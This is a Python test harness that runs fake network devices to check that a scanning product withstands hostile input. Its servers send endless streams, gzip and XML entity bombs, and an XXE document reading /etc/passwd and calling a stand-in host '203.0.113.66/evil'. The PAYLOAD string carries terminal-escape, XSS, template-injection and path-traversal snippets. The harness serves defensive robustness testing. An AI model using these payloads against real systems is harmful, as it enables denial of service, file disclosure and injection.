"""Devices that want the bench to hang, to crash, to run out of memory or to be lied to.

Each is a function of `DEVICES` that starts its servers on an address and returns; no code is shared
with the product. Run inside the device's namespace: ``python devices.py NAME ADDRESS FOLDER``; a
line on standard output says that everything listens, and
one at the end names the foreign addresses that were asked.
"""

import gzip
import itertools
import json
import socket
import struct
import sys
import threading
from functools import partial
from pathlib import Path

import certificates
import wires
from servers import drip, head, request, reset, tcp, tls, udp

LETTERS = b"A" * 65536
FOREIGN = "203.0.113."
EVIL = f"http://{FOREIGN}66/evil"
"""An address that nobody may ever be asked at; it is routed to the device, which would notice."""
PAYLOAD = (
    "\x1b[31mred\x1b]8;;http://203.0.113.66/\x1b\\link\x1b]8;;\x1b\\\x1b]0;title\x07\x9b2J"
    "[bold red]rich[/bold red][/][link=http://203.0.113.66]l[/link]:skull:"
    "\u202egnp.exe\u2066\u200f</title></style><script>alert(1)</script>"
    f"<img src={EVIL} onerror=alert(1)>\"'{{{{7*7}}}}../../etc/passwd\\"
)


def endless(address, folder):
    """Everything that is sent never ends: floods, drops of one byte, lines, headers, resets."""

    def flood(connection, _):
        while True:
            connection.sendall(LETTERS)

    def ssh(connection, _):
        connection.sendall(b"SSH-2.0-")
        flood(connection, 0)

    def greeting(connection, _):
        for number in itertools.count():
            connection.sendall(b"220-welcome %d\r\n" % number)

    def slow_head(connection, _):
        request(connection)
        drip(connection, (bytes([letter]) for letter in b"HTTP/1.1 200 OK\r\nX: " + LETTERS))

    def huge_head(connection, _):
        request(connection)
        connection.sendall(b"HTTP/1.1 200 OK\r\n")
        line = b"X-Filler-%d: " + b"x" * 8000 + b"\r\n"
        for number in range(10 * 1024 * 1024 // 8000):
            connection.sendall(line % number)
        connection.sendall(b"\r\n<title>at last</title>")

    def resets(connection, number):
        if number % 3:
            connection.recv(65536)
        reset(connection)

    tcp(address, 21, greeting)
    tcp(address, 22, ssh)
    tcp(address, 80, slow_head)
    tcp(address, 443, resets)
    tcp(address, 1883, flood)
    tcp(address, 8080, huge_head)
    tcp(address, 9999, lambda connection, _: drip(connection, itertools.repeat(b"x")))


def bombs(address, folder):
    """Small messages that become large when they are read."""
    packed = gzip.compress(b"\0" * 1024**3, 9)  # 1 GiB in 1 MiB
    page = head("Content-Type: text/html", "Content-Encoding: gzip").encode() + packed

    def bomb(connection, _):
        request(connection)
        connection.sendall(page)

    laughs = ['<!ENTITY a0 "ha">']
    laughs += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    laughter = f'<?xml version="1.0"?><!DOCTYPE r [{"".join(laughs)}]><root>&a11;</root>'
    outside = (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"> '
        f'<!ENTITY % y SYSTEM "{EVIL}"> %y;]><root><device>&x;</device></root>'
    )
    deep = "<root>" + "<device>" * 200_000
    documents = {"/laughter.xml": laughter, "/outside.xml": outside, "/deep.xml": deep}

    def describe(connection, _):
        path = request(connection).split(b" ")[1].decode("latin-1")
        body = documents.get(path, "<root>" + "<x/>" * 3_000_000)
        connection.sendall(head("Content-Type: text/xml").encode() + body.encode())

    def found(data):
        places = [f"http://{address}:5000{path}" for path in (*documents, "/wide.xml")]
        places += [EVIL, "http://127.0.0.1/", "file:///etc/passwd", "http://[::1]:1/", "gopher://x"]
        places += [f"http://203.0.113.{number}:80/root.xml" for number in range(60)]
        return [wires.ssdp(place) for place in places] if data.startswith(b"M-SEARCH") else []

    tcp(address, 80, bomb)
    tcp(address, 5000, describe)
    tcp(address, 53, lambda connection, _: connection.sendall(wires.looping_name(b"\0\1") * 1000))
    udp(address, 53, lambda data: [wires.looping_name(data[:2])])
    udp(address, 69, lambda data: [struct.pack(">HH", 3, 1) + b"x" * 512] * 50)
    udp(address, 161, wires.endless_walk)
    for group in ("", "239.255.255.250"):
        udp(address, 1900, found, group)
    for group in ("", "224.0.0.251"):
        udp(address, 5353, wires.ten_thousand_records, group)


def papers(address, folder):
    """Web servers whose certificates are absurd; each says something that has a login."""

    def page(connection, _):
        request(connection)
        connection.sendall(head("Content-Type: text/html").encode() + b"<title>box</title>")

    absurd = {
        443: certificates.many_names(),
        8443: certificates.long_name(),
        9443: certificates.negative_serial(),
        10443: certificates.speaking(PAYLOAD),
    }
    for port, certificate in absurd.items():
        files = certificates.files(folder, str(port), certificate)
        tcp(address, port, tls(*files, page))


def speaking(address, folder):
    """`PAYLOAD` wherever text goes: banners, titles, headers, names, records, objects, topics."""
    said = PAYLOAD.encode()
    page = (
        f"<title>{PAYLOAD.replace('</title>', '')}</title><h1>{PAYLOAD}</h1>"
        f'<form method="post" action="/{PAYLOAD.replace(chr(34), "")}">'
        f"<input name='{PAYLOAD.replace(chr(39), '')}'><input type=password name='p{PAYLOAD[:60]}'>"
        f"</form> nginx/1.2.3{PAYLOAD}"
    )
    texts = (f"Server: nginx/1.2.3 {PAYLOAD}", f"X-Powered-By: PHP/7.1 {PAYLOAD}",
             f"Location: http://{address}/{PAYLOAD}", f"Set-Cookie: {PAYLOAD}=1")  # fmt: skip

    def web(connection, _):
        path = request(connection).split(b" ")[1]
        closed = path.startswith(b"/admin")
        lines = [*texts[:2], texts[3], "Content-Type: text/html"]
        lines += [f'WWW-Authenticate: Basic realm="{PAYLOAD}"'] if closed else []
        status = f"401 {PAYLOAD}" if closed else "200 OK"
        connection.sendall((head(*lines, status=status) + page).encode())

    def ftp(connection, _):
        connection.sendall(b"220 ProFTPD 1.3.5 " + said + b"\r\n")
        while line := connection.recv(1024):
            code = b"331 " if line.upper().startswith(b"USER") else b"530 "
            connection.sendall(code + said + b"\r\n")

    def ssh(connection, _):
        connection.sendall(b"SSH-2.0-OpenSSH_8.1 " + said[:200] + b"\r\n")
        connection.recv(65536)

    def telnet(connection, _):
        wires.login_prompts(connection, said + b"\r\nLinux 4.4.1\r\n", said)

    description = wires.description(PAYLOAD, address)

    def describe(connection, _):
        request(connection)
        connection.sendall((head("Content-Type: text/xml") + description).encode())

    def found(data):
        if not data.startswith(b"M-SEARCH"):
            return []
        return [wires.ssdp(f"http://{address}:5000/root.xml", said), wires.ssdp(EVIL, said)]

    files = certificates.files(folder, "speaking", certificates.speaking(PAYLOAD))
    tcp(address, 21, ftp)
    tcp(address, 22, ssh)
    tcp(address, 23, telnet)
    tcp(address, 80, web)
    tcp(address, 443, tls(*files, web))
    tcp(address, 5000, describe)
    tcp(address, 1883, partial(wires.open_broker, text=said))
    tcp(address, 7, lambda connection, _: connection.sendall(said))
    udp(address, 53, lambda data: [wires.version_bind(data, said)])
    udp(address, 161, lambda data: [wires.system_group(data, said)])
    for group in ("", "239.255.255.250"):
        udp(address, 1900, found, group)
    for group in ("", "224.0.0.251"):
        udp(address, 5353, lambda data: [wires.instance(data, said)], group)


def logins(address, folder):
    """Logins that never end: Telnet and a form; and an FTP server that knows no command."""

    def telnet(connection, number):
        connection.sendall(b"box login: ")
        while connection.recv(1024):
            connection.sendall(b"\r\nPassword: " if number % 2 else b"\r\nchecking")
            drip(connection, itertools.repeat(b"."), 0.5)

    form = b"<form method=post action=/go><input name=u><input type=password name=p></form>"

    def page(connection, _):
        if request(connection).startswith(b"POST"):
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n")
            drip(connection, itertools.repeat(b" "), 0.5)
        connection.sendall(head("Content-Type: text/html").encode() + form)

    def ftp(connection, _):
        connection.sendall(b"220 ready\r\n")
        while line := connection.recv(1024):
            connection.sendall(b"331 name?\r\n" if line.startswith(b"USER") else b"500 no\r\n")

    tcp(address, 21, ftp)
    tcp(address, 23, telnet)
    tcp(address, 80, page)


def shifting(address, folder):
    """Each connection to a port finds another protocol."""
    files = certificates.files(folder, "shifting", certificates.speaking("shifting"))

    def web(connection, _):
        request(connection)
        form = b"<form method=post><input name=u><input type=password name=p></form>"
        connection.sendall(head("Content-Type: text/html").encode() + form)

    def ssh(connection, _):
        connection.sendall(b"SSH-2.0-dropbear\r\n")
        connection.recv(65536)

    def telnet(connection, _):
        wires.login_prompts(connection, b"", b"Login incorrect")

    def ftp(connection, _):
        connection.sendall(b"220 ready\r\n")
        connection.recv(1024)
        connection.sendall(b"211-Features\r\n211 End\r\n")

    faces = (web, ssh, tls(*files, web), telnet, ftp, lambda connection, _: None)

    def shift(connection, number, start):
        faces[(number + start) % len(faces)](connection, number)

    for start, port in enumerate((22, 80, 443)):
        tcp(address, port, partial(shift, start=start))


DEVICES = {each.__name__: each for each in (endless, bombs, papers, speaking, logins, shifting)}


def watch(strangers):
    """Note the destination of every packet that comes in and is meant for FOREIGN."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as wire:
        while True:
            packet, about = wire.recvfrom(65535)
            target = socket.inet_ntoa(packet[16:20])
            if about[2] != socket.PACKET_OUTGOING and target.startswith(FOREIGN):
                strangers.add(target)


def main():
    name, address, folder = sys.argv[1:]
    strangers = set()
    threading.Thread(target=watch, args=(strangers,), daemon=True).start()
    DEVICES[name](address, Path(folder))
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    sys.stdin.read()  # until the scene ends
    sys.stdout.write(json.dumps(sorted(strangers)) + "\n")


if __name__ == "__main__":
    main()
